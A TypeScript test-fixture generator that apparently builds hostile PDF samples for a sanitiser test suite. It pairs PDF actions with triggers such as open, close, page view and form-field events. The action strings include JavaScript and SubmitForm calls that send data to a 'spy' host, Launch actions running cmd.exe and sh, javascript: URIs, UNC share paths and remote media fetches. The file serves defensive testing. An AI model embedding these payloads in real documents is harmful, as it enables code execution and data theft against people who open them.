import { disguises } from './disguises.ts'
import type { HostileFile } from './hostile-file.ts'

const SCRIPT = "app.alert('x');this.submitForm('URL');app.launchURL('URL')"

/** Actions that a reader may run by itself: scripts, programs, forms sent away, files and addresses opened. */
function actions(spy: string): Record<string, string> {
  return {
    'a script': `<</S/JavaScript/JS(${SCRIPT.replaceAll('URL', spy)})>>`,
    'a program of Windows': '<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc.exe)>>>>',
    'a program of Unix': '<</S/Launch/F(/bin/sh)/Unix(sh -c id)>>',
    'a form sent away': `<</S/SubmitForm/F(${spy})/Flags 4>>`,
    'data taken in': `<</S/ImportData/F(${spy}/data.fdf)>>`,
    'an address': `<</S/URI/URI(${spy})>>`,
    'an address of a script': '<</S/URI/URI(javascript:alert\\(1\\))>>',
    'a file elsewhere': `<</S/GoToR/F<</FS/URL/F(${spy}/a.pdf)>>/D[0/Fit]>>`,
    'a file on a share': '<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\share\\\\a.pdf)/D[0/Fit]>>',
    'an embedded file': '<</S/GoToE/T<</R/C/N(evil)>>/D[0/Fit]>>',
    'a film': `<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F(${spy}/film.swf)>>>>>>>>`,
    'a key of the reader': '<</S/Named/N/Print>>',
    'a script of a film': `<</S/Rendition/JS(${SCRIPT.replaceAll('URL', spy)})>>`,
    'a sound from elsewhere': `<</S/Sound/Sound<</Type/Sound/R 8000/F<</FS/URL/F(${spy}/a.wav)>>>>>>`,
    'a thread of another file': `<</S/Thread/F<</FS/URL/F(${spy}/a.pdf)>>/D 0>>`,
    'a chain of actions': `<</S/URI/URI(${spy})/Next[6 0 R 6 0 R]>>`,
  }
}

/** Where an action hangs. */
const hooks: Readonly<Record<string, { catalogue?: string; page?: string }>> = {
  'when opened': { catalogue: '/OpenAction 6 0 R' },
  'when closed or printed': { catalogue: '/AA<</WC 6 0 R/WP 6 0 R/DP 6 0 R>>' },
  'when a page is shown': { page: '/AA<</O 6 0 R/C 6 0 R>>' },
  'by its name': { catalogue: '/Names<</JavaScript<</Names[(a)6 0 R]>>>>' },
  'in a note': { page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A 6 0 R>>]' },
  'in a field': {
    catalogue: '/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K 6 0 R/C 6 0 R>>/Rect[0 0 9 9]/Subtype/Widget>>]>>',
  },
}

/** Each action, at each hook, in each disguise: kept, for a paper may have links and forms, and given back inert. */
export function actingPdfs(spy: string): HostileFile[] {
  return Object.entries(disguises).flatMap(([disguise, write]) =>
    Object.entries(actions(spy)).flatMap(([action, body]) =>
      Object.entries(hooks).map(
        ([hook, where]): HostileFile => ({
          name: `${action}, ${hook}, ${disguise}`,
          bytes: write({ ...where, more: [body] }),
          must: 'kept',
        }),
      ),
    ),
  )
}
